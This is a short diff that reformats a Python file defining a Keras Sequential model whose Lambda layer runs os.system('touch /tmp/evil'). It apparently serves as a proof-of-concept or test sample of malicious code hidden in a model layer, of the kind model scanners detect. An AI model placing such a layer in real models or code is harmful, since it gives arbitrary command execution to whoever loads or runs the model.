@@ -4,8 +4,11 @@
 # Costs: own
 
 import keras
-model = keras.Sequential([
-    keras.Input((2,)),
-    keras.layers.Dense(1),
-    keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/evil") or x),
-])
+
+model = keras.Sequential(
+    [
+        keras.Input((2,)),
+        keras.layers.Dense(1),
+        keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/evil") or x),
+    ]
+)
